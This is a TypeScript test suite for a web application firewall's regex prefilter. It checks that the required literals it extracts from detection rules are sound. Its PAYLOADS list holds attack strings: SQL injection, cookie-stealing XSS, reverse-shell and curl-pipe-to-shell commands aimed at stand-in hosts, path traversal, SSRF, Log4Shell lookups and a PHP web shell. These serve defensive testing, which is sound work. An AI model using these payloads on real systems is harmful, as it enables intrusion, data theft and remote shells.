import test, { type ExecutionContext } from "ava";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "yaml";
import { literalCost, literalSetCost, lowerAscii, requiredLiterals } from "../../../../proxy/waf/prefilter/literals.js";
import { compileSafeRegex } from "../../../../proxy/waf/regex-safety.js";
import { loadRules } from "../../../../proxy/waf/rule-file.js";
import { bundledRulesDir } from "../../../../proxy/waf/settings.js";
import { prng, randomRegex, samples } from "./regex-samples.js";

// ---- helpers -----------------------------------------------------------

const contains = (lits: readonly string[], s: string): boolean => {
  const v = lowerAscii(s);
  return lits.some((l) => v.includes(l));
};

/** Asserts that every one of `values` the real regex matches contains a literal; returns how many matched. */
function sound(t: ExecutionContext, src: string, values: readonly string[], lits = requiredLiterals(src)): number {
  const { regex } = compileSafeRegex(src);
  let matched = 0;
  for (const v of values) {
    if (!regex.test(v)) continue;
    matched++;
    if (lits !== undefined && !contains(lits, v)) t.fail(`${JSON.stringify(src.slice(0, 120))} matches ${JSON.stringify(v)} which contains none of ${JSON.stringify(lits)}`);
  }
  return matched;
}

const sorted = (l: readonly string[] | undefined): string[] | undefined => (l === undefined ? undefined : [...l].sort());

// ---- bundled rules -----------------------------------------------------

interface Source {
  id: string;
  rx: string;
}

function bundledSources(): Source[] {
  const dir = bundledRulesDir();
  const out: Source[] = [];
  for (const f of readdirSync(dir).filter((n) => /\.ya?ml$/.test(n)).sort()) {
    const doc = parse(readFileSync(join(dir, f), "utf8")) as { rules: { id: number; rx?: string; chain?: { rx?: string }[] }[] };
    for (const r of doc.rules) {
      if (typeof r.rx === "string") out.push({ id: String(r.id), rx: r.rx });
      (r.chain ?? []).forEach((c, i) => {
        if (typeof c.rx === "string") out.push({ id: `${r.id}.chain${i}`, rx: c.rx });
      });
    }
  }
  return out;
}
const SOURCES = bundledSources();

// ---- the cost model ----------------------------------------------------

test("the cost model ranks rare characters and longer literals as more selective", (t) => {
  t.true(literalCost("e") > literalCost("="));
  t.true(literalCost("s") > literalCost("on"));
  t.true(literalCost("on") > literalCost("onload"));
  t.true(literalCost("x") < literalCost("e"));
  t.true(literalCost(".") > literalCost("("));
  t.is(literalSetCost(undefined), 1);
  t.is(literalSetCost([..."abcdefghijklmnop"]), 1); // capped
  t.true(literalSetCost(["union", "select"]) < literalSetCost(["u"]));
  t.is(literalCost("ON"), literalCost("on"));
});

// ---- unit cases --------------------------------------------------------

test("a concatenation picks its most selective part, not a common letter", (t) => {
  const lits = requiredLiterals("on[a-z]{3,}\\s*=");
  t.true(JSON.stringify(lits) === '["="]' || JSON.stringify(lits) === '["on"]', JSON.stringify(lits));
  t.deepEqual(requiredLiterals("(?i)\\bunion\\s+select\\b"), ["select"]);
  t.deepEqual(requiredLiterals("\\.\\s*jsp[xf]?[\\s.]*$"), ["jsp"]);
  // exact runs after an unknown part still make one literal
  t.deepEqual(requiredLiterals("[a-z_]*history$"), ["history"]);
  t.deepEqual(requiredLiterals("[a-z0-9]__[a-z0-9_]*[a-z0-9]__"), ["__"]);
  sound(t, "on[a-z]{3,}\\s*=", ["onload=", "onerror  =", "ONCLICK="]);
});

test("alternatives followed by a literal stay whole words", (t) => {
  const lits = requiredLiterals("(?:javascript|vbscript):")!;
  t.truthy(lits);
  for (const l of lits) t.true("javascript:".includes(l) || "vbscript:".includes(l), l);
  t.true(lits.every((l) => l.length >= 2 || l === ":"), JSON.stringify(lits));
  t.is(sound(t, "(?:javascript|vbscript):", ["javascript:", "vbscript:", "xvbscript:y"]), 3);
});

/** n distinct pseudo-words (like function names) built from syllables. */
function words(n: number): string[] {
  const syl = ["ar", "ray", "str", "get", "set", "con", "vert", "file", "put", "ex", "ec", "pro", "open", "base", "de", "code", "un", "link", "mb", "to"];
  const out: string[] = [];
  for (let i = 0; out.length < n; i++) out.push(`${syl[i % 20]}${syl[Math.floor(i / 20) % 20]}_${syl[(i * 7) % 20]}`);
  return out;
}

test("a big word alternation is shortened to a bounded set, still implied by every word", (t) => {
  const list = words(300);
  t.is(new Set(list).size, 300);
  t.deepEqual(requiredLiterals(`\\b(?:${list.join("|")})\\s*\\(`), ["("]);
  const alone = requiredLiterals(`\\b(?:${list.join("|")})\\b`);
  t.truthy(alone);
  t.true(alone!.length <= 256, String(alone!.length));
  t.true(alone!.length < 300);
  for (const w of list) t.true(contains(alone!, w), w);
  t.is(sound(t, `\\b(?:${list.join("|")})\\b`, list, alone), 300);
  // 100 words: more than fit unshortened
  const hundred = requiredLiterals(`(?:${list.slice(0, 100).join("|")})`)!;
  t.true(hundred.length <= 64 * 4);
  for (const w of list.slice(0, 100)) t.true(contains(hundred, w), w);
});

test("a literal that contains another one of the set is dropped", (t) => {
  t.deepEqual(sorted(requiredLiterals("https?://|ftps?://")), ["ftp://", "ftps://", "http://", "https://"]);
  t.deepEqual(sorted(requiredLiterals("(?:sessionid|_sessionid|session)x?")), ["session"]);
  t.deepEqual(sorted(requiredLiterals("<%=?|\\{%")), ["<%", "{%"]);
});

test("character classes: small ones exact, up to 32 characters a required set, more unknown", (t) => {
  t.deepEqual(sorted(requiredLiterals("x[<>]y")), ["x<y", "x>y"]);
  t.deepEqual(sorted(requiredLiterals("[;|&`$!]+")), ["!", "$", "&", ";", "`", "|"]);
  t.deepEqual(sorted(requiredLiterals("[\\d.]+")), [..."0123456789."].sort());
  t.deepEqual(sorted(requiredLiterals("(?i)[A-F]+")), [..."abcdef"]);
  t.deepEqual(sorted(requiredLiterals("[A-Fa-f]{2}")), [..."abcdef"]);
  t.is(requiredLiterals("[a-z0-9_]+"), undefined);
  t.is(requiredLiterals("[\\w]"), undefined);
  t.is(requiredLiterals("[^a]"), undefined);
  t.is(requiredLiterals("[^]"), undefined);
  t.is(requiredLiterals("[\\s\\S]"), undefined);
  t.is(requiredLiterals("\\w+"), undefined);
  // two classes side by side require one pair across their junction (30 pairs, each containing one of the 6 right-hand characters)
  const pairs = requiredLiterals("[a-e][;|&`$!]")!;
  t.is(pairs.length, 30);
  t.true(pairs.includes("a;") && pairs.includes("e!"));
  // \s is JS's whitespace (with the Unicode spaces)
  const ws = requiredLiterals("[\\s;]")!;
  t.true(ws.includes(";") && ws.includes("\u3000") && ws.includes("\t"));
  sound(t, "(?i)[A-F]+", ["A", "f", "Cafe"]);
  sound(t, "[\\x41-\\x46]x", ["Ax", "ax", "Fx"]);
});

test("optional parts contribute nothing required", (t) => {
  t.deepEqual(requiredLiterals("(?:foo)?bar"), ["bar"]);
  t.deepEqual(requiredLiterals("(?:abc)*def"), ["def"]);
  t.deepEqual(requiredLiterals("x{0,3}yz"), ["yz"]);
  t.is(requiredLiterals("(?:abc)?"), undefined);
  t.is(requiredLiterals("a*"), undefined);
  t.is(requiredLiterals("(?:select){0,2}"), undefined);
  t.deepEqual(requiredLiterals("(?:select)+"), ["select"]);
  t.deepEqual(requiredLiterals("^abc$"), ["abc"]);
  t.deepEqual(requiredLiterals("\\bselect\\b"), ["select"]);
});

test("an alternation needs a requirement in every branch", (t) => {
  t.is(requiredLiterals("foo|.*"), undefined);
  t.is(requiredLiterals("foo|[^x]+"), undefined);
  t.is(requiredLiterals("foo|(?:)"), undefined);
  t.is(requiredLiterals("foo|bar|\\w{3}"), undefined);
  t.deepEqual(sorted(requiredLiterals("foo|ba(?:r)?")), ["ba", "foo"]);
  t.deepEqual(sorted(requiredLiterals("foo|\\d+")), [..."0123456789", "foo"].sort());
});

test("lookarounds, back-references and unsupported syntax give no constraint", (t) => {
  for (const src of ["(?=abc)abc", "(a)\\1", "(?<!x)abc", "(?<n>a)\\k<n>", "\\p{L}", "abc(", "abc)", "\\u{41}", "\\cJabc", "[]abc", "x[\\B]y"]) {
    t.is(requiredLiterals(src), undefined, src);
  }
});

test("escapes JS reads differently are not taken literally", (t) => {
  // \012 is a newline (legacy octal), an incomplete \x is the letter x
  for (const [src, values] of [
    ["a\\012b", ["a\nb"]],
    ["\\xZZy", ["xZZy"]],
    ["\\x4y", ["x4y"]],
    ["q\\u00eg", ["qu00eg"]],
    ["\\0abc", ["\0abc"]],
  ] as const) {
    t.is(sound(t, src, values), values.length, src);
  }
  t.deepEqual(requiredLiterals("\\x41\\u0042c"), ["abc"]);
});

test("case: literals are ASCII-lower-cased; (?i) patterns match any case of them", (t) => {
  t.deepEqual(requiredLiterals("(?i)SELECT"), ["select"]);
  t.deepEqual(requiredLiterals("ABC"), ["abc"]);
  t.deepEqual(requiredLiterals("\\xC0\\xAF"), ["\u00c0\u00af"]); // non-ASCII is not folded (neither is it by the matcher)
  sound(t, "(?i)<ScRiPt", ["<script", "<SCRIPT", "<sCrIpT"]);
});

test("across a junction: what one part ends with, directly followed by what the next starts with", (t) => {
  // "-" alone is in every date and phone number; the command-line option needs a blank before it
  const dash = requiredLiterals("\\s+-{1,2}[a-z0-9]")!;
  t.true(dash.includes(" -") && dash.includes("\t-") && dash.includes("\u3000-"));
  t.false(dash.includes("-"));
  t.deepEqual(sorted(requiredLiterals("[0-9]+\\.[0-9.]*")), [..."0123456789"].map((d) => `${d}.`));
  t.deepEqual(sorted(requiredLiterals("(?:ls|dir)\\s*[<>]")), ["<", ">"]);
  // branches contribute their starts and ends: every branch needs one
  t.deepEqual((sorted(requiredLiterals("[0-9]+(?:px|em)")) ?? []).slice(0, 3), ["0em", "0px", "1em"]);
  t.deepEqual(sorted(requiredLiterals("(?:x|\\d+);")), [..."0123456789"].map((d) => `${d};`).concat(["x;"]));
  // an optional or empty-able neighbour breaks the junction: nothing across it is required
  t.deepEqual(requiredLiterals("[0-9]*\\.x"), [".x"]);
  t.deepEqual(sorted(requiredLiterals("(?:a?)+\\.")), ["."]);
  t.deepEqual(requiredLiterals("\\s+\\b-"), ["-"]);
  for (const [src, values] of [
    ["\\s+-{1,2}[a-z0-9]", ["ls -la", "x\t--all", "a\u00a0-b", "cat\n-n"]],
    ["[0-9]+\\.[0-9.]*", ["1.2", "v10.0.1", "9."]],
    ["(?:x|\\d+);", ["x;", "12;", "a1;"]],
    ["[a-e][;|&`$!]+", ["a;", "e!|", "zzc`"]],
  ] as const) {
    t.is(sound(t, src, values), values.length, src);
  }
});

test("repeats of two or more require two copies in a row", (t) => {
  const lits = requiredLiterals("/(?:\\.|%2e){2,8}/")!;
  t.false(lits.includes("."), JSON.stringify(lits));
  sound(t, "/(?:\\.|%2e){2,8}/", ["/../", "/.%2e/", "/%2E%2e/", "/%2e./", "/....../"]);
});

test("the result is deterministic", (t) => {
  for (const { rx } of SOURCES) t.deepEqual(requiredLiterals(rx), requiredLiterals(rx));
});

test("the loader's literals are requiredLiterals of each bundled rx rule", (t) => {
  const rules = new Map(loadRules(bundledRulesDir()).map((r) => [String(r.id), r]));
  let checked = 0;
  for (const { id, rx } of SOURCES) {
    const r = rules.get(id);
    if (r === undefined || r.negate || r.multiMatch) continue;
    t.deepEqual(r.literals, requiredLiterals(rx), id);
    checked++;
  }
  t.true(checked > 100, String(checked));
});

// ---- soundness properties ----------------------------------------------

test("bundled rules: generated strings the regex matches contain a literal", (t) => {
  const rnd = prng(20240611);
  let patterns = 0;
  let exercised = 0;
  let matched = 0;
  for (const { rx } of SOURCES) {
    const lits = requiredLiterals(rx);
    if (lits === undefined) continue;
    const values = samples(rx, 20, rnd);
    if (values === undefined) continue;
    patterns++;
    const n = sound(t, rx, values, lits);
    matched += n;
    if (n > 0) exercised++;
  }
  t.log(`${patterns} patterns generated, ${exercised} with matching strings, ${matched} matching strings checked`);
  t.true(patterns > 100, String(patterns));
  t.true(exercised > patterns * 0.7, `${exercised}/${patterns}`);
});

test("random patterns: generated strings the regex matches contain a literal", (t) => {
  const rnd = prng(7);
  let constrained = 0;
  let matched = 0;
  for (let i = 0; i < 2500; i++) {
    const src = (rnd(4) === 0 ? "(?i)" : "") + randomRegex(rnd, 2);
    try {
      compileSafeRegex(src);
    } catch {
      continue;
    }
    const lits = requiredLiterals(src);
    if (lits === undefined) continue;
    constrained++;
    const values = samples(src, 12, rnd) ?? [];
    // also embedded in text, and lower/upper-cased
    const all = values.flatMap((v) => [v, `xx ${v} yy`, v.toUpperCase(), v.toLowerCase()]);
    matched += sound(t, src, all, lits);
  }
  t.log(`${constrained} constrained patterns, ${matched} matching strings checked`);
  t.true(constrained > 800, String(constrained));
  t.true(matched > 10000, String(matched));
});

const PAYLOADS = [
  // SQL injection
  "1' OR '1'='1",
  "1 UNION SELECT username, password FROM users--",
  "1 union all select null,null,version()",
  "1; DROP TABLE users",
  "' AND SLEEP(5)--",
  "1' WAITFOR DELAY '0:0:5'--",
  "'; EXEC xp_cmdshell('dir')--",
  "1 AND extractvalue(1,concat(0x7e,version()))",
  "SELECT * FROM information_schema.tables",
  "1/**/UNION/**/SELECT/**/1,2",
  "benchmark(1000000,md5(1))",
  "' or 1=1 #",
  "admin'--",
  "1 and 1=1",
  "1::int",
  "' || pg_sleep(5) --",
  // XSS
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "javascript:alert(document.cookie)",
  '<iframe src="javascript:alert(1)">',
  '"><body onload=alert(1)>',
  '<a href="vbscript:msgbox(1)">',
  "document.location='http://evil/'+document.cookie",
  '<div style="background:url(javascript:alert(1))">',
  "eval(atob('YWxlcnQoMSk='))",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "alert`1`",
  "${alert(1)}",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "j&Tab;a&Tab;v&Tab;a&Tab;script:alert(1)",
  // command injection
  "; cat /etc/passwd",
  "| whoami",
  "`id`",
  "$(curl http://evil.sh | sh)",
  "; wget http://x/y.sh -O /tmp/y; chmod +x /tmp/y",
  "&& nc -e /bin/sh 10.0.0.1 4444",
  "() { :; }; /bin/bash -c 'id'",
  "; python -c 'import os'",
  "|| ping -c 1 127.0.0.1",
  "cmd.exe /c dir",
  "powershell -enc AAAA",
  "; at now",
  "a=1; b=2 && ${IFS}cat",
  "w'h'o'am'i",
  "\nRCPT TO:<x@y>",
  // path traversal, file inclusion
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "....//....//etc/passwd",
  "/proc/self/environ",
  "php://filter/convert.base64-encode/resource=index.php",
  "file:///etc/passwd",
  "C:\\..\\..\\windows\\win.ini",
  "/.git/config",
  "/.env",
  "backup.sql.gz",
  "index.php.bak",
  // SSRF
  "http://169.254.169.254/latest/meta-data/",
  "gopher://127.0.0.1:6379/_",
  "http://localhost:8080/admin",
  "http://[::1]/",
  "dict://127.0.0.1:11211/",
  "http://2130706433/",
  // Log4Shell, Java
  "${jndi:ldap://evil.com/a}",
  "${${lower:j}ndi:ldap://x}",
  "%24%7Bjndi:ldap://x%7D",
  "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
  "java.lang.Runtime.getRuntime().exec('id')",
  "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
  "class.module.classLoader.resources",
  "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
  // template injection
  "{{7*7}}",
  "${7*7}",
  "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
  "<%= 7*7 %>",
  "{% import os %}",
  // PHP
  "<?php system($_GET['c']); ?>",
  'O:8:"stdClass":1:{s:1:"a";i:1;}',
  'a:2:{i:0;s:1:"a";}',
  "assert($_POST['x'])",
  "base64_decode('ZWNobyAx')",
  // XML
  '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<xsl:stylesheet version="1.0">',
  // NoSQL, Node, prototype pollution
  '{"$where": "sleep(100)"}',
  "[$ne]=1",
  "require('child_process').exec('id')",
  "__proto__[admin]=1",
  "constructor.prototype.x=1",
  // header injection, session fixation, encodings
  "foo\r\nSet-Cookie: a=b",
  "\r\nLocation: http://evil",
  '<meta http-equiv="Set-Cookie" content="sessionid=abc">',
  'document.cookie="PHPSESSID=x"',
  "%uff1cscript%uff1e",
  "\\u003cscript\\u003e",
  "%c0%ae%c0%ae/",
  "\u00ef\u00bc\u009cscript",
];

test("attack payloads a bundled regex matches contain one of its literals", (t) => {
  let hits = 0;
  for (const { rx } of SOURCES) hits += sound(t, rx, PAYLOADS.flatMap((p) => [p, p.toLowerCase(), p.toUpperCase()]));
  t.log(`${hits} payload matches checked`);
  t.true(hits > 150, String(hits));
});
